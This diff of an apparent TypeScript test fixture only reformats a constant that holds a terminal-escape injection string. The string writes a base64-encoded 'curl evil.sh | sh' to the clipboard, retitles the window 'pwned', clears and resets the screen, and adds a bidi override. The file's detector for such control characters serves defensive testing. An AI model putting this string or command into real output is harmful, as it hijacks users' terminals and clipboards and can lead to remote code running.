@@ -12,8 +12,7 @@ export const DONE_ID = "req_20260301_110000_0badf00d";
 export const CLIPBOARD = "Y3VybCBldmlsLnNoIHwgc2g=";
 
 /** Clipboard write, window title, screen clear, full reset, a C1 CSI, a bell and a right-to-left override. */
-export const HOSTILE =
-  `\u001b]52;c;${CLIPBOARD}\u0007\u001b]0;pwned\u0007\u001b[2J\u001bc\u009b2J\u0007\u202epwned\u202c`;
+export const HOSTILE = `\u001b]52;c;${CLIPBOARD}\u0007\u001b]0;pwned\u0007\u001b[2J\u001bc\u009b2J\u0007\u202epwned\u202c`;
 
 /** What in `output` could drive a terminal: ESC, C0 (but newline), DEL, C1, bidi overrides and isolates. */
 export function hostileControls(output: string): string[] {
